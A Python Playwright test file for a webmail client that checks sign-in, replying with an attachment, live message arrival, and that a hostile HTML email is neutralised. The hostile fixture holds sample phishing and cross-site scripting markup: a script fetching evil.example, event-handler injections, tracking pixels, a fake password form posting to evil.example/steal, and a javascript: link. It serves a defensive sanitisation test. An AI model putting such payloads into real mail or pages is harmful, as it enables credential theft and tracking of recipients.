"""Webmail in the browser: sign in, read, reply with an attachment, live arrival, hostile mail.

Chromium runs with --disable-features=IsolateSandboxedIframes: otherwise a
sandboxed frame lives in a process Playwright does not watch, and the leak
check below (no request to another origin, no script run) would prove nothing.
"""

from __future__ import annotations

import base64
import secrets
import smtplib
import time
from collections.abc import Callable, Iterator
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from pathlib import Path
from typing import Any

import psycopg2
import pytest

from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGS, Screens, launch_chromium
from tests.browser.helpers import insert_address
from tests.browser.test_sending import Receiver, relay  # noqa: F401
from tests.conftest import GatewayProcess, free_port
from tests.mail.factories import PASSWORD, PASSWORD_HASH

ADDRESS = "ana@webmail.test"
SMTP_PORT = free_port()
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
HOSTILE = """<html><head><script>document.title='pwned'; fetch('https://evil.example/x')</script>
<style>body{background:url(https://tracker.example/bg.png)}</style></head>
<body onload="document.title='pwned'">
<p>Dear customer <img src="cid:logo@webmail.test" alt="logo" onerror="document.title='pwned'"></p>
<img src="https://tracker.example/open.gif" alt="pixel">
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<a href="javascript:document.title='pwned'">click</a>
<iframe src="https://evil.example/frame"></iframe>
</body></html>"""


@pytest.fixture
def gateway_env(relay: tuple[Receiver, int]) -> dict[str, str]:  # noqa: F811
    return {
        "OUTBOUND_RELAY": f"127.0.0.1:{relay[1]}",
        "SMTP_ENABLED": "true",
        "SMTP_HOST": "127.0.0.1",
        "SMTP_PORT": str(SMTP_PORT),
        "SMTP_AUTH_CHECKS": "false",
        "SUBMISSION_PORT": str(free_port()),
    }


@pytest.fixture
def browser(gateway: GatewayProcess) -> Iterator[Any]:
    """The conftest's chromium, with sandboxed frames in the page's process (see above)."""
    if CHROMIUM is None:
        pytest.fail("CI runs the browser tests: chromium must be installed (make browser)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        args = [*CHROMIUM_ARGS, "--disable-features=IsolateSandboxedIframes"]
        chromium = launch_chromium(pw, gateway, args)
        yield chromium
        chromium.close()


def make_mailbox(database_url: str) -> None:
    with psycopg2.connect(database_url) as conn, conn.cursor() as cur:
        cur.execute(
            "INSERT INTO mail.accounts (email, password_hash, referral_code, created_at, updated_at)"
            " VALUES (%s, %s, %s, now(), now()) RETURNING id",
            ("owner@panel.test", PASSWORD_HASH, secrets.token_hex(6)),
        )
        insert_address(cur, cur.fetchone()[0], ADDRESS, PASSWORD_HASH)  # type: ignore[index]
    conn.close()


def deliver(subject: str, text: str, *, html: str | None = None, cid_png: bool = False,
            message_id: str | None = None) -> None:  # fmt: skip
    msg = EmailMessage()
    msg["From"] = "Bob Sender <bob@example.net>"
    msg["To"] = ADDRESS
    msg["Subject"] = subject
    if message_id:
        msg["Message-ID"] = f"<{message_id}>"
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
        if cid_png:
            msg.get_payload()[1].add_related(PNG, "image", "png", cid="<logo@webmail.test>")
    with smtplib.SMTP("127.0.0.1", SMTP_PORT, timeout=10) as smtp:
        smtp.send_message(msg, from_addr="bob@example.net", to_addrs=[ADDRESS])


def test_sign_in_read_reply_with_attachment_and_live_arrival(
    screens: Callable[[], Screens],
    gateway: GatewayProcess,
    database_url: str,
    relay: tuple[Receiver, int],  # noqa: F811
    tmp_path: Path,
) -> None:
    make_mailbox(database_url)
    deliver("Lunch on Friday?", "Shall we meet at noon?", message_id="lunch@remote.test")
    tab = screens()
    page = tab.page
    page.goto("/webmail")
    page.get_by_label("Email address").fill(ADDRESS)
    page.get_by_label("Password").fill(PASSWORD)
    tab.check("webmail-signin")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name="Lunch on Friday?").wait_for()
    page.locator("body[data-live='ready']").wait_for()
    tab.check("webmail-inbox")

    page.get_by_role("button", name="Lunch on Friday?").click()
    body = page.frame_locator("#read-body")
    body.get_by_text("Shall we meet at noon?").wait_for()
    tab.check("webmail-reading")

    attachment = tmp_path / "agenda.txt"
    attachment.write_text("12:00 soup\n12:30 dessert\n")
    page.keyboard.press("r")
    page.get_by_role("dialog", name="Reply").wait_for()
    text = page.get_by_role("textbox", name="Message")
    text.press("Control+Home")
    text.type("Noon works. ")
    page.locator("#c-files").set_input_files(str(attachment))
    tab.check("webmail-compose")
    page.get_by_role("button", name="Send", exact=True).click()
    page.get_by_text("Message sent.").wait_for()

    receiver = relay[0]
    deadline = time.monotonic() + 20
    while not receiver.messages and time.monotonic() < deadline:
        time.sleep(0.2)
    assert receiver.messages, "the reply did not leave through the outbound queue"
    sent = BytesParser(policy=policy.default).parsebytes(receiver.messages[0])
    assert sent["In-Reply-To"] == "<lunch@remote.test>"
    assert sent["Subject"] == "Re: Lunch on Friday?"
    assert [a.get_filename() for a in sent.iter_attachments()] == ["agenda.txt"]
    assert "Noon works." in sent.get_body(("plain",)).get_content()

    # A new message over SMTP shows up without a reload.
    page.evaluate("window.__sameDocument = true")
    deliver("Fresh news", "It just arrived.")
    page.get_by_role("button", name="Fresh news").wait_for(timeout=15_000)
    assert page.evaluate("window.__sameDocument") is True
    # Keyboard: open it, flag it (s), delete it (#): it leaves the Inbox for Trash.
    page.get_by_role("button", name="Fresh news").click()
    page.frame_locator("#read-body").get_by_text("It just arrived.").wait_for()
    page.locator("#messages").focus()
    page.keyboard.press("s")
    page.locator('[data-action="flag"][aria-pressed="true"]').wait_for()
    page.keyboard.press("#")
    page.get_by_role("button", name="Fresh news").wait_for(state="detached")
    page.locator("#folders a", has_text="Trash").click()
    page.get_by_role("button", name="Fresh news").wait_for()
    page.locator("#folders a", has_text="Sent").click()
    page.get_by_role("button", name="Re: Lunch on Friday?").wait_for()


def test_a_hostile_message_runs_no_script_and_loads_nothing_remote(
    screens: Callable[[], Screens], gateway: GatewayProcess, database_url: str
) -> None:
    make_mailbox(database_url)
    deliver("Account notice", "Please read.", html=HOSTILE, cid_png=True)
    tab = screens()
    page = tab.page
    console: list[str] = []
    requests: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (console.append("dialog " + d.message), d.dismiss()))
    page.goto("/webmail")
    page.get_by_label("Email address").fill(ADDRESS)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name="Account notice").click()
    frame_el = page.locator("#read-body")
    body = page.frame_locator("#read-body")
    body.get_by_text("Dear customer").wait_for()
    page.wait_for_load_state("networkidle")
    frame = frame_el.element_handle().content_frame()
    assert frame is not None
    # The cid: image drew (a signed part URL, no cookie needed); nothing else ran.
    assert frame.evaluate("document.querySelector('img[alt=logo]').naturalWidth") == 1
    assert frame.title() != "pwned" and page.title() != "pwned"
    assert frame.evaluate("document.querySelectorAll('script, form, input, iframe').length") == 0
    assert not [u for u in requests if "evil.example" in u or "tracker.example" in u], requests
    assert any("/part/" in u and "signature=" in u for u in requests)
    assert not [c for c in console if "pwned" in c or c.startswith("dialog")]
    page.get_by_text("Remote images were blocked").wait_for()
    tab.check("webmail-hostile")
